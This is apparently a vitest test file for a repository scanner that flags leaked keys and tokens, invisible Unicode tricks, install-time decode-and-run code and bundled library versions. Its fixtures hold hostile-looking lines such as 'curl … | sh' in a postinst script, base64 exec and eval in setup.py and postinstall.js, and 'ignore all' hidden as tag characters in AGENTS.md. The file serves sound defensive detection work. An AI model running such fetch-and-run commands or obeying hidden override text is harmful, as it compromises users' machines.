import { describe, expect, it } from 'vitest';
import { ContentScan } from '../../../src/core/catalog/detectors/content-scan.ts';
import { KeywordSearch } from '../../../src/core/catalog/detectors/keyword-search.ts';
import { detectors } from '../../../src/core/catalog/detectors/registry.ts';
import { SCANNED_BYTES } from '../../../src/core/catalog/detectors/types.ts';

/** What the detectors see in a file of this name, as `kind: detail at line N`, fed in chunks of `chunk` bytes. */
function seen(path: string, content: string | Uint8Array, chunk = 1 << 16): string[] {
  const bytes = typeof content === 'string' ? new TextEncoder().encode(content) : content;
  const scan = new ContentScan();
  scan.begin(path, bytes.length);
  for (let at = 0; at < bytes.length; at += chunk) scan.data(bytes.subarray(at, at + chunk));
  return scan.end().map(({ kind, detail, pointer }) => `${kind}: ${detail} at ${pointer}`);
}

/** Written apart, so that no scanner of this repository takes it for one. */
const TOKEN = `${'gh'}p_${'a8Kd02mZq7Lw3Xv9Rt5Yb1Nc6Pf4Gh8Js2Ue'}`;
const PEM = `-----BEGIN ${'PRIVATE'} KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7\n`;

describe('private keys', () => {
  it('says where one stands and what it is', () => {
    expect(seen('etc/ssl/server.key', `# mine\n${PEM}`)).toEqual([
      'secret.private-key: PRIVATE KEY at line 2',
    ]);
  });

  it('sees one written into JSON', () => {
    const json = JSON.stringify({ private_key: PEM });
    expect(seen('app/account.json', json)).toEqual(['secret.private-key: PRIVATE KEY at line 1']);
  });

  it('tells encrypted ones apart', () => {
    const encrypted = PEM.replace('PRIVATE', 'ENCRYPTED PRIVATE');
    expect(seen('a.pem', encrypted)).toEqual([
      'secret.private-key-encrypted: ENCRYPTED PRIVATE KEY (encrypted) at line 1',
    ]);
  });

  it('sees one with header lines before its body', () => {
    const encrypted = PEM.replace('PRIVATE', 'RSA PRIVATE').replace(
      '\n',
      '\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0123456789ABCDEF0123456789ABCDEF\n\n',
    );
    expect(seen('id_rsa', encrypted)).toEqual([
      'secret.private-key-encrypted: RSA PRIVATE KEY (encrypted) at line 1',
    ]);
  });

  it('is silent on a public key, a header in a manual and a header in code', () => {
    expect(seen('a.pem', PEM.replace('PRIVATE', 'PUBLIC'))).toEqual([]);
    expect(
      seen('man.md', `A key begins with \`-----BEGIN ${'PRIVATE'} KEY-----\` and ends with ...`),
    ).toEqual([]);
    expect(
      seen('a.js', `if (text.includes('-----BEGIN ${'PRIVATE'} KEY-----')) throw new Error('no');`),
    ).toEqual([]);
  });
});

describe('tokens', () => {
  it('shows the first four characters and the length, never the token', () => {
    const [found = ''] = seen('.env', `A=1\nGITHUB_TOKEN=${TOKEN}\n`);
    expect(found).toBe('secret.github-token: GitHub token, ghp_… (40 characters) at line 2');
    expect(found).not.toContain(TOKEN.slice(4, 12));
  });

  it('sees one behind a line end that is written out, and none inside a word', () => {
    expect(seen('a.json', JSON.stringify({ a: `x\n${TOKEN}\t` }))).toHaveLength(1);
    expect(seen('a.json', JSON.stringify({ a: `xn${TOKEN}` }))).toEqual([]);
  });

  it('sees one behind thousands of words that mean nothing in such a file, and says where it stopped', () => {
    expect(seen('emoji.json', `"${'\u2764\ufe0f'.repeat(5000)}" ${TOKEN}`)).toHaveLength(1);
    const decoys = new TextEncoder().encode(`${'SG.x '.repeat(5000)}${TOKEN}`);
    const scan = new ContentScan();
    scan.begin('decoys.txt', decoys.length);
    scan.data(decoys);
    expect([scan.end(), scan.crowded]).toEqual([[], true]);
  });

  it('counts the same token once', () => {
    expect(seen('.env', `${TOKEN}\n${TOKEN}\n`)).toHaveLength(1);
  });

  it.each([
    ['a token of the vendor’s documentation', `AKIA${'IOSFODNN7EXAMPLE'}`],
    ['a placeholder', `ghp_${'x'.repeat(36)}`],
    ['one in the middle of a word', `graph${TOKEN}`],
    ['one that is too long', `${TOKEN}abcdefghijkl`],
    ['a variable in .npmrc', `//registry.npmjs.org/:_authToken=${'$'}{NPM_TOKEN}`],
  ])('is silent on %s', (_what, text) => {
    expect(seen('a.txt', text)).toEqual([]);
  });

  it('sees a token in .npmrc', () => {
    const token = ['3f2b9c1e', '7a44', '4d0c', '9b1d', '5e8f6a2c0d17'].join('-');
    expect(seen('.npmrc', `//registry.npmjs.org/:_authToken=${token}`)).toEqual([
      'secret.npmrc-token: npm registry token, 3f2b… (36 characters) at line 1',
    ]);
  });
});

describe('characters that cannot be seen', () => {
  it('sees directions that reorder a line of code', () => {
    expect(
      seen('a.js', 'if (a) {\n  /*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */'),
    ).toEqual(['hidden.bidi: characters that change the direction of text at line 2']);
  });

  it.each(['Makefile', 'Dockerfile.prod', 'bin/run', 'a.sol', 'a.dart'])('sees them in %s', (path) => {
    expect(seen(path, '#!/bin/sh\n# \u202e \u2066\n')).toEqual([
      'hidden.bidi: characters that change the direction of text at line 2',
    ]);
  });

  it('sees bytes hidden in a run of variation selectors', () => {
    const hidden = [...'payload-of-bytes']
      .map((char) => String.fromCodePoint(0xe0100 + char.charCodeAt(0)))
      .join('');
    expect(seen('index.js', `const s = "\u{1f600}${hidden}";`)).toEqual([
      'hidden.selectors: variation selectors in a row, which can carry hidden bytes at line 1',
    ]);
  });

  it('sees tags in instructions for agents', () => {
    const hidden = [...'ignore all']
      .map((char) => String.fromCodePoint(0xe0000 + char.charCodeAt(0)))
      .join('');
    expect(seen('AGENTS.md', `# Rules\n${hidden}`)).toEqual([
      'hidden.tags: tag characters, which draw nothing at line 2',
    ]);
  });

  it('is silent on emoji, on flags of regions, and on Arabic in a text file', () => {
    expect(seen('a.js', 'const heart = "\u2764\ufe0f \u{1f468}\u200d\u{1f469}\u200d\u{1f467}";')).toEqual([]);
    expect(
      seen('a.js', 'const wales = "\u{1f3f4}\u{e0067}\u{e0062}\u{e0077}\u{e006c}\u{e0073}\u{e007f}";'),
    ).toEqual([]);
    expect(seen('ar.po', 'msgstr "\u202bمرحبا\u202c"')).toEqual([]);
  });
});

describe('decode and run', () => {
  it.each([
    ['setup.py', 'import base64\nexec(base64.b64decode("aW1wb3J0IG9z"))', 'python'],
    ['package/postinstall.js', 'eval(Buffer.from(x, "base64").toString())', 'javascript'],
    ['var/lib/dpkg/info/evil.postinst', '#!/bin/sh\ncurl -s https://example.org/a | sh\n', 'shell'],
    ['install.sh', 'echo aGVsbG8= | base64 -d | bash', 'shell'],
    ['setup.py', `os.system("powershell -enc ${'SQBFAFgAIAAoAE4AZQB3AC0A'}")`, 'powershell'],
  ])('%s: %s', (path, content, what) => {
    expect(seen(path, content)).toHaveLength(1);
    expect(seen(path, content)[0]).toContain(`run.decoded-${what}: `);
  });

  it('is silent where it does not run at install time, and on decoding alone', () => {
    expect(seen('lib/loader.py', 'exec(base64.b64decode("aW1wb3J0IG9z"))')).toEqual([]);
    expect(seen('setup.py', 'icon = base64.b64decode("aW1wb3J0IG9z")\nexec(open("v.py").read())')).toEqual(
      [],
    );
    expect(seen('install.sh', 'curl -o a.tar.gz https://example.org/a.tar.gz\nsh ./configure')).toEqual([]);
  });
});

describe('JavaScript libraries in bundles', () => {
  it.each([
    ['/*! jQuery v3.4.1 | (c) JS Foundation */', 'jquery@3.4.1'],
    ['/*!\n * jQuery JavaScript Library v1.12.4\n */', 'jquery@1.12.4'],
    ['/*!\n  * Bootstrap v4.3.1 (https://getbootstrap.com/)\n */', 'bootstrap@4.3.1'],
    ['/*\n AngularJS v1.5.8\n*/', 'angular@1.5.8'],
    ['//! moment.js\n//! version : 2.29.1', 'moment@2.29.1'],
    ['//     Underscore.js 1.8.3\n', 'underscore@1.8.3'],
  ])('%j is %s', (content, library) => {
    const [found = ''] = seen('www/js/app.min.js', content);
    expect(found).toContain(`bundled.javascript: ${library} at`);
  });

  it('is silent where another library is only spoken of, and outside of JavaScript', () => {
    expect(
      seen('lodash.js', '/**\n * Based on Underscore.js 1.8.3 <http://underscorejs.org/LICENSE>\n */'),
    ).toEqual([]);
    expect(seen('plugin.js', '// requires jQuery v1.9 or later')).toEqual([]);
    expect(seen('README.md', 'jQuery v1.9.1')).toEqual([]);
  });
});

describe('the pass over content', () => {
  it('sees the same, however the file is cut into chunks', () => {
    const content = `${'x'.repeat(300)}\n${TOKEN}\n${PEM}`;
    for (const chunk of [1, 7, 300, 305, 4096])
      expect(seen('.env', content, chunk)).toEqual(seen('.env', content));
  });

  it('looks at no binary, no picture and nothing past the first MiB', () => {
    expect(seen('a.txt', `\0${TOKEN}`)).toEqual([]);
    expect(seen('a.png', TOKEN)).toEqual([]);
    const big = new TextEncoder().encode(`${' '.repeat(SCANNED_BYTES)}${TOKEN}`);
    expect(seen('big.txt', big)).toEqual([]);
    expect(seen('big.txt', big.subarray(100))).toHaveLength(1);
  });

  it('keeps a bounded number of observations of a file full of keys', () => {
    const letters = 'abcdefghijklmnopqrstuvwxyz';
    const many = Array.from({ length: 500 }, (_, i) => {
      const at = letters[i % 26] ?? '';
      return `${'np'}m_${at}${'Q8Kd02mZq7Lw3Xv9Rt5Yb1Nc6Pf4Gh8Js2U'}`.replace(
        'mZ',
        `m${letters[Math.floor(i / 26)] ?? ''}`,
      );
    });
    expect(seen('.env', many.join('\n')).length).toBeLessThanOrEqual(50);
  });

  it('every detector is reached by its keywords alone', () => {
    for (const { id, keywords } of detectors) expect([id, keywords.length > 0]).toEqual([id, true]);
  });
});

it('the keyword search finds what a plain search finds', () => {
  const keywords = ['abc', 'bca', 'cab', 'abcabc', 'xyz'];
  const text = 'abcabcabxyzcabca'.repeat(5);
  const plain = keywords.flatMap((keyword, i) => {
    const hits: string[] = [];
    for (let at = text.indexOf(keyword); at >= 0; at = text.indexOf(keyword, at + 1)) hits.push(`${at} ${i}`);
    return hits;
  });
  const found = new KeywordSearch(keywords).find(new TextEncoder().encode(text), 10_000);
  expect(found.map(({ offset, keyword }) => `${offset} ${keyword}`).sort()).toEqual(plain.sort());
  expect(() => new KeywordSearch(['ab'])).toThrow(RangeError);
});
